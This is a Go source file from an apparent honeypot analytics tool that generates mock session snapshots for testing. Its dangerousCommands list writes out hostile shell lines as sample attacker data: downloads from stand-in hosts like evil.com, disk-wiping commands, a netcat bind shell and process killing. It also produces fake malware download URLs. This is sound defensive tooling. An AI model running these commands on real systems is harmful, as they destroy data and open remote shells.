// Honeystat - Honeypot Session Analytics and Attack Visualization
// Copyright 2026 Tom F. (tomtom215)
// SPDX-License-Identifier: AGPL-3.0-or-later
// https://github.com/tomtom215/honeystat

package main

import (
	"fmt"
	"math/rand/v2"
	"sort"
	"time"

	"github.com/tomtom215/honeystat/internal/daterange"
	"github.com/tomtom215/honeystat/internal/geolocation"
	"github.com/tomtom215/honeystat/internal/models"
)

var (
	usernames = []string{"root", "admin", "user", "test", "oracle", "postgres", "mysql", "ubuntu", "centos", "guest"}
	passwords = []string{"123456", "password", "admin", "root", "12345", "qwerty", "test", "123", "password123", ""}

	normalCommands = []string{
		"ls", "pwd", "whoami", "id", "ps", "top", "df", "free", "uptime", "cat /etc/passwd", "uname -a",
	}
	dangerousCommands = []string{
		"wget http://malware.com/bot.sh",
		"curl -O http://evil.com/miner",
		"rm -rf /",
		"dd if=/dev/zero of=/dev/sda",
		"chmod 777 /etc/passwd",
		"nc -l -p 4444 -e /bin/bash",
		`python -c "import os; os.system('rm -rf /')"`,
		"kill -9 -1",
	}

	// Three in four logins succeed.
	loginStatuses = []string{"success", "failed", "success", "success"}
)

const sessionTimestampLayout = "2006-01-02T15:04:05.000000Z"

// Generator produces plausible daily snapshots. It is not safe for
// concurrent use.
type Generator struct {
	rng *rand.Rand
	ips []string
}

// NewGenerator creates a generator. A zero seed picks a random one.
func NewGenerator(seed uint64) *Generator {
	if seed == 0 {
		seed = rand.Uint64()
	}
	return &Generator{
		rng: rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15)),
		ips: geolocation.SampleIPs(),
	}
}

// between returns a uniform int in [lo, hi].
func (g *Generator) between(lo, hi int) int {
	return lo + g.rng.IntN(hi-lo+1)
}

func (g *Generator) chance(p float64) bool {
	return g.rng.Float64() < p
}

func (g *Generator) pick(from []string) string {
	return from[g.rng.IntN(len(from))]
}

// pickN draws n values with replacement.
func (g *Generator) pickN(from []string, n int) []string {
	out := make([]string, n)
	for i := range out {
		out[i] = g.pick(from)
	}
	return out
}

// sample draws n distinct values.
func (g *Generator) sample(from []string, n int) []string {
	n = min(n, len(from))
	out := make([]string, n)
	for i, j := range g.rng.Perm(len(from))[:n] {
		out[i] = from[j]
	}
	return out
}

// SessionsFor returns the nominal session count for a day: busier on
// weekdays, never below one.
func (g *Generator) SessionsFor(date time.Time) int {
	var base int
	switch date.Weekday() {
	case time.Saturday, time.Sunday:
		base = g.between(3, 12)
	default:
		base = g.between(8, 25)
	}
	return max(1, base+g.between(-5, 10))
}

// Day builds the snapshot for date. The statistics block records
// numSessions, while session_details holds one entry per top_ips hit.
func (g *Generator) Day(date time.Time, numSessions int) *models.Snapshot {
	day := date.Format(daterange.KeyLayout)
	ips := g.sample(g.ips, g.between(3, 8))

	snap := &models.Snapshot{
		Metadata: &models.SnapshotMetadata{
			ReportDate: day + "T02:57:20.436835",
			AnalysisPeriod: &models.AnalysisPeriod{
				Start: day + "T00:00:00+00:00",
				End:   day + "T23:59:59+00:00",
			},
		},
		Statistics: &models.SnapshotStatistics{
			TotalSessions: numSessions,
			UniqueIPs:     len(ips),
		},
		TopIPs:            make([]models.IPCount, 0, len(ips)),
		DangerousCommands: make([]models.CommandCount, 0),
		SessionDetails:    make(models.SessionDetails, 0),
	}

	for _, ip := range ips {
		snap.TopIPs = append(snap.TopIPs, models.IPCount{IP: ip, Count: g.between(1, max(1, numSessions/2))})
	}

	if g.chance(0.7) {
		for _, cmd := range g.sample(dangerousCommands, g.between(1, 4)) {
			snap.DangerousCommands = append(snap.DangerousCommands, models.NewCommandCount(cmd, g.between(1, 5)))
		}
	}

	midnight := time.Date(date.Year(), date.Month(), date.Day(), 0, 0, 0, 0, time.UTC)
	for _, hit := range snap.TopIPs {
		for range hit.Count {
			id := fmt.Sprintf("mock%08x", len(snap.SessionDetails))
			ts := midnight.Add(time.Duration(g.rng.IntN(24*60*60)) * time.Second)
			snap.SessionDetails = append(snap.SessionDetails, models.SessionEntry{
				ID:     id,
				Record: g.session(hit.IP, ts),
			})
		}
	}

	sort.SliceStable(snap.TopIPs, func(i, j int) bool {
		return snap.TopIPs[i].Count > snap.TopIPs[j].Count
	})
	return snap
}

func (g *Generator) session(ip string, ts time.Time) models.SessionRecord {
	rec := models.SessionRecord{
		IP:        ip,
		Timestamp: ts.Format(sessionTimestampLayout),
		Login: models.LoginAttempt{
			Username: g.pick(usernames),
			Password: g.pick(passwords),
			Status:   g.pick(loginStatuses),
		},
		Commands:          g.pickN(normalCommands, g.between(1, 10)),
		DangerousCommands: []string{},
		Downloads:         []models.Download{},
	}

	if g.chance(0.3) {
		rec.DangerousCommands = g.pickN(dangerousCommands, g.between(1, 2))
		rec.Commands = append(rec.Commands, rec.DangerousCommands...)
	}
	if g.chance(0.1) {
		rec.Downloads = append(rec.Downloads, models.Download{
			URL:      fmt.Sprintf("http://malicious-site%d.com/malware.sh", g.between(1, 5)),
			Filename: fmt.Sprintf("malware%d.sh", g.between(1, 100)),
		})
	}
	return rec
}
